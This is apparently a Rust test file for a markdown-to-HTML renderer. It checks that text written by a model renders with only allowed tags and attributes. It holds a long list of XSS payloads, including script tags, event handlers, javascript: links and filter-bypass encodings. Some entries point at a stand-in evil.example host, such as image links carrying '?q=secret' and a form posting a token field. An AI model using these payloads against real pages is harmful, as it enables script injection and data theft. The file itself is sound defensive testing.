//! Whatever a model writes comes out inert: only our tags, our attributes, and addresses one may link to.
#![expect(clippy::unwrap_used, clippy::panic, reason = "tests")]

use std::fmt::Write as _;

use mira_render::{LiveHtml, Place, render, render_cited};
use proptest::prelude::*;

const TAGS: [&str; 27] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Reads the output as a browser's tokenizer would and refuses every tag and attribute that is not ours.
fn assert_inert(html: &str, source: &str) {
    let mut rest = html;
    let mut open: Vec<String> = Vec::new();
    while let Some((_, tail)) = rest.split_once('<') {
        let closing = tail.starts_with('/');
        let tail = tail.strip_prefix('/').unwrap_or(tail);
        let end_of_name = tail.find(|c: char| !c.is_ascii_alphanumeric()).unwrap();
        let (name, mut attributes) = tail.split_at(end_of_name);
        assert!(TAGS.contains(&name), "tag {name:?} in {html:?} from {source:?}");
        if closing {
            assert_eq!(open.pop().as_deref(), Some(name), "unbalanced {html:?} from {source:?}");
        } else if !["br", "hr", "input"].contains(&name) {
            open.push(name.to_owned());
        }
        let mut has_rel = false;
        while let Some(next) = attributes.strip_prefix(' ') {
            let (attribute, value) = next.split_once("=\"").unwrap();
            let (value, tail) = value.split_once('"').unwrap();
            check_attribute(name, attribute, value, source);
            has_rel |= attribute == "rel";
            attributes = tail;
        }
        assert!(
            name != "a" || closing || has_rel,
            "link without rel in {html:?} from {source:?}"
        );
        rest = attributes
            .strip_prefix('>')
            .unwrap_or_else(|| panic!("broken tag in {html:?} from {source:?}"));
    }
    assert!(open.is_empty(), "left open {open:?} in {html:?} from {source:?}");
}

fn check_attribute(tag: &str, attribute: &str, value: &str, source: &str) {
    let fits = match (tag, attribute) {
        ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|scheme| {
            value
                .get(..scheme.len())
                .is_some_and(|head| head.eq_ignore_ascii_case(scheme))
        }),
        ("a", "rel") => value == "noopener noreferrer nofollow",
        ("a", "target") => value == "_blank",
        ("a", "title") | ("ol", "start") => true,
        ("a", "class") => value == "image-link",
        ("li", "class") => value == "task-list",
        ("code", "class") => value.starts_with("language-") && !value.contains(' '),
        ("span", "class") => value == "cites" || value.split(' ').all(|class| class.starts_with("hl-")),
        ("span", "data-cites") => value.bytes().all(|b| b.is_ascii_digit() || b == b' '),
        ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
        ("input", "type") => value == "checkbox",
        ("input", "disabled" | "checked") => value.is_empty(),
        _ => false,
    };
    assert!(fits, "<{tag} {attribute}={value:?}> from {source:?}");
}

/// Every block on its way, and at the end.
fn assert_inert_live(source: &str) {
    let mut live = LiveHtml::new();
    for c in source.chars() {
        live.push(c.encode_utf8(&mut [0; 4]));
        for (_, html) in live.render_changed() {
            assert_inert(&html, source);
        }
    }
    for (_, html) in live.finish() {
        assert_inert(&html, source);
    }
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'https://evil.example';</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=token></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/logout)",
    "[x](https:javascript:alert(1))",
    "[x](https://e.example/\"onmouseover=alert(1)//)",
    "[x](https://e.example '\"onmouseover=alert(1)//')",
    "[x](https://e.example \"<script>alert(1)</script>\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://e.example '\"><script>alert(1)</script>'",
    "![x](https://evil.example/?q=secret)",
    "![x\" onerror=\"alert(1)](https://e.example/x)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![](https://evil.example/\"><script>alert(1)</script>)",
    "[![a](https://e.example/a.png)](javascript:alert(1))",
    "[a [b](javascript:alert(1)) c](https://e.example)",
    "![a [b](javascript:alert(1)) c](https://e.example)",
    "![a ![b](https://b.example) c](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<https://e.example/\"onclick=alert(1)>",
    "<a@e.example\"onclick=alert(1)>",
    "[x](<https://e.example/><script>alert(1)</script>)",
    "``` \"><script>alert(1)</script>\ncode\n```",
    "```rust\" onclick=alert(1)\ncode\n```",
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|:-|-:|\n| `</td><img src=x onerror=alert(1)>` | <img src=x onerror=alert(1)> |",
    "- [ ] <input type=text onfocus=alert(1) autofocus>",
    "- [x] <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script> {onclick=alert(1) #id .class}",
    "\0<scr\0ipt>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>\u{202c}",
    "<\u{ff53}cript>alert(1)</script>",
    "1. <details ontoggle=alert(1) open>",
    "a<br onclick=alert(1)>b",
    "<div\nonclick=alert(1)\n>",
];

#[test]
fn payloads_are_inert() {
    for payload in PAYLOADS {
        assert_inert(&render(payload), payload);
        assert_inert_live(payload);
        for (before, after) in [
            ("**", "**"),
            ("> - ", "\n"),
            ("[a", "](https://e.example)"),
            ("![", "](https://e.example)"),
        ] {
            let wrapped = format!("{before}{payload}{after}");
            assert_inert(&render(&wrapped), &wrapped);
        }
    }
}

#[test]
fn pairs_of_payloads_are_inert() {
    for first in PAYLOADS {
        for second in PAYLOADS {
            let both = format!("{first} {second}\n{first}\n\n{second}");
            assert_inert(&render(&both), &both);
        }
    }
}

#[test]
fn the_check_can_fail() {
    for html in [
        "<script>",
        "<p onclick=\"a\"></p>",
        "<a href=\"javascript:a\" rel=\"noopener noreferrer nofollow\"></a>",
        "<a href=\"https://a\"></a>",
        "<img src=\"x\">",
        "<p>",
    ] {
        assert!(std::panic::catch_unwind(|| assert_inert(html, "")).is_err(), "{html}");
    }
}

#[test]
fn hostile_shapes_are_inert() {
    let mut shapes: Vec<String> = [
        ">", "> ", "- ", "* a\n ", "[", "![", "](", "*a ", "**a _b ", "`", "~~", "<", "<!--", "|", "\\", "&", "\0",
        "[a](", "![a](", "<a href=", "\u{202e}", "\n", "    ", "1. ", "a\n", "a\n\n", "<b>", "[a]: b\n", "***",
        "[a][a]",
    ]
    .iter()
    .map(|unit| unit.repeat(8_000 / unit.len()))
    .collect();
    shapes.push(format!("{}a{}", "[".repeat(4_000), "](b)".repeat(4_000)));
    shapes.push(format!("{}a{}", "*".repeat(10_000), "*".repeat(10_000)));
    let mut nested = String::new();
    for depth in 0..80 {
        writeln!(nested, "{}- a", "  ".repeat(depth)).unwrap();
    }
    shapes.push(nested);
    shapes.push(">".repeat(100_000));
    shapes.push("&".repeat(50_000));
    shapes.push(format!("|{}\n|{}\n", "a|".repeat(1_000), "-|".repeat(1_000)));
    for shape in &shapes {
        let head: String = shape.chars().take(20).collect();
        assert_inert(&render(shape), &head);
        let mut live = LiveHtml::new();
        for part in shape.as_bytes().chunks(199).take(12) {
            live.push(&String::from_utf8_lossy(part));
            for (_, html) in live.render_changed() {
                assert_inert(&html, &head);
            }
        }
        for (_, html) in live.finish() {
            assert_inert(&html, &head);
        }
    }
}

fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(vec![
            "<", ">", "\"", "'", "=", "/", "script", "<script", "onerror=", "javascript:", "&#", "&lt;", "[", "]", "(",
            ")", "![", "](", "<!--", "-->", "`", "```", "\n", "\n\n", "*", "**", "_", "~~", "|", "|-|-|\n", "- ", "> ",
            "# ", "https://e.example", "data:", "<svg", "<style>", "</style>", "<img ", "- [ ] ", "\\", "\0", "\u{202e}",
            "    ", "\t", "\r", "html", "[a]: ",
        ]).prop_map(str::to_owned),
        1 => any::<String>(),
        1 => prop::sample::select(PAYLOADS.to_vec()).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_inert(text in any::<String>()) {
        assert_inert(&render(&text), &text);
    }

    #[test]
    fn any_soup_is_inert(text in soup()) {
        assert_inert(&render(&text), &text);
        assert_inert_live(&text);
    }

    #[test]
    fn places_anywhere_are_inert(text in soup(), places in prop::collection::vec((0u32..120, 0u32..9), 0..12)) {
        let places = places.into_iter().map(|(start, length)| Place { at: start..start + length, number: start });
        assert_inert(&render_cited(&text, places), &text);
    }
}
